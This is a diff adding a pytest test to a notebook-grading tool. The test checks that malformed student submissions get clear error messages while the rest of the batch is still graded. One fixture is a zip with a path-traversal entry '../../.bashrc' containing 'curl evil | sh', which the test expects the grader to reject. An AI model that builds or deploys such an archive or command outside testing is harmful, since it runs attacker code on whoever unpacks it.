@@ -213,3 +213,62 @@ def test_a_dead_kernel_keeps_earlier_evidence_and_true_false_answers(tmp_path, c
     assert items["2.4"]["message"] == "not reached: the kernel died in cell 20"
     assert [items[f"3.{n}"]["points"] for n in range(1, 11)] == [2.0] * 10
     assert submission["flags"] == ["kernel-died"] and submission["total"] == 32
+
+
+def test_broken_files_get_their_message_and_the_rest_of_the_batch_is_graded(tmp_path, cache_dir):
+    """Three kernel runs: the good notebook, its nbformat 3 copy and a zipped folder."""
+    import zipfile
+
+    from markupsafe import escape
+
+    folder = tmp_path / "subs"
+    folder.mkdir()
+    good = SUBMISSIONS / "김민준(2022001).ipynb"
+    (folder / good.name).write_bytes(good.read_bytes())
+    v3 = nbformat.convert(nbformat.read(good, as_version=4), 3)
+    (folder / "정도윤(2022105).ipynb").write_text(nbformat.writes(v3, version=3), encoding="utf-8")
+    (folder / "이서연(2022102).ipynb").write_text("<!DOCTYPE html><html>Colab</html>", encoding="utf-8")
+    (folder / "박지호(2022103).ipynb").write_bytes(b"")
+    prefix = '{"cells": [], "metadata": {"title": "'
+    (folder / "최수아(2022104).ipynb").write_bytes((prefix + '중간고사"}}').encode("cp949"))  # saved as EUC-KR
+    with zipfile.ZipFile(folder / "강하은(2022106).zip", "w") as archive:
+        archive.writestr("midterm.ipynb", good.read_bytes())
+        archive.writestr("../../.bashrc", "curl evil | sh")
+    colab = nbformat.read(SUBMISSIONS / "신유나(2022012)" / "DL2022_midterm.ipynb", as_version=4)
+    first_code = next(index for index, cell in enumerate(colab.cells) if cell.cell_type == "code")
+    colab.cells[first_code].outputs = [nbformat.v4.new_output("stream", text="progress\n" * 150_000)]
+    with zipfile.ZipFile(folder / "신유나(2022012).zip", "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("신유나(2022012)/DL2022_midterm.ipynb", nbformat.writes(colab))
+
+    out = tmp_path / "out"
+    done = run_cli("grade", str(folder), "--rubric", str(RUBRIC), "--out", str(out), "-q", env_cache=cache_dir)
+    assert "graded 7, unchanged 0, errors 4, flagged 0" in done.stderr
+    by_student = {s["student"]: s for s in json.loads((out / "results.json").read_text(encoding="utf-8"))["submissions"]}
+
+    graded_like = {"2022001": "2022001", "2022105": "2022001", "2022012": "2022012"}  # student -> sample it copies
+    for student, sample in graded_like.items():
+        problem_2, problem_3, status, flags = EXPECTED[sample]
+        got = points(by_student[student])
+        assert tuple(got[f"2.{n}"] for n in range(1, 5)) == problem_2, student
+        assert [got[f"3.{n}"] for n in range(1, 11)] == problem_3, student
+        assert (by_student[student]["status"], by_student[student]["flags"], by_student[student]["error"]) == (status, flags, None)
+        assert by_student[student]["total"] == sum(problem_2) + sum(problem_3)
+    assert by_student["2022012"]["file"] == "신유나(2022012).zip"
+    cut = (f"the stored outputs of cell {first_code + 1} were cut when read (over 1,000,000 characters in one output, "
+           "or 20,000,000 in all); grading uses the outputs of the re-run")
+    assert str(escape(cut)) in (out / "students" / "2022012.html").read_text(encoding="utf-8")
+
+    errors = {
+        "2022102": "이서연(2022102).ipynb is not a Jupyter notebook: it is not JSON (line 1, column 1: Expecting value)",
+        "2022103": "박지호(2022103).ipynb is empty (0 bytes): it is not a Jupyter notebook",
+        "2022104": f"최수아(2022104).ipynb is not a Jupyter notebook: it is not UTF-8 text (byte {len(prefix)})",
+        "2022106": "강하은(2022106).zip was not unpacked: '../../.bashrc' would land outside its folder "
+                   "(absolute paths and '..' are not allowed); zip the submission folder itself and resubmit",
+    }
+    for student, message in errors.items():
+        submission = by_student[student]
+        assert (submission["status"], submission["error"], submission["total"], submission["flags"]) == ("error", message, 0, [])
+        assert {(item["status"], item["message"]) for item in submission["items"]} == {("error", message)}
+        assert str(escape(message)) in (out / "students" / f"{student}.html").read_text(encoding="utf-8")
+    assert sorted(by_student) == sorted([*graded_like, *errors])
+    assert sorted(p.name for p in (out / "executed").iterdir()) == ["2022001.ipynb", "2022012.ipynb", "2022105.ipynb"]
